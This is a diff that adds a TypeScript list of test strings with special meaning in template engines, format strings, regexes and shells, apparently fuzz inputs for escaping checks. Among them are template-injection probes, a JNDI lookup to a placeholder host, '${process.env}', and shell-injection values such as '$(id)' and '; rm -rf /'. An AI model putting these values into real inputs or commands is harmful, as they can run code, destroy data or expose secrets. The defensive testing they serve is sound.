@@ -1,0 +1,30 @@
+/** Texts with a special meaning in template engines, formatters and shells. */
+export const TEMPLATES: readonly string[] = [
+  ...[
+    '{{input.text}}',
+    '{{7*7}}',
+    '{{',
+    '}}',
+    '{{constructor.constructor("return 1")()}}',
+    '{% raw %}',
+    '{%',
+    '{# x #}',
+    '[[${7*7}]]',
+    '[= 1 ]',
+  ],
+  ...[
+    '${process.env}',
+    '${jndi:ldap://x.example/a}',
+    '${',
+    '#{7*7}',
+    '<#assign x=1>',
+    '*{x}',
+    '@{x}',
+    '%{x}',
+    '~{x}',
+    '$x',
+  ],
+  ...['%s %n %d %00', '%', '%%', '%1$s', '{0}', '{}', '%(x)s', '\\u0000 \\n', '\\x41', '\\101'],
+  ...['$1 $& $$', '$`', "$'", '\\1', '(a+)+$', '[', '(?:', '.*', '^', '\\b'],
+  ...['`id`', '$(id)', '; rm -rf /', '| cat', '&& true', '> /dev/null', '!!', '~', '*', '$IFS'],
+];
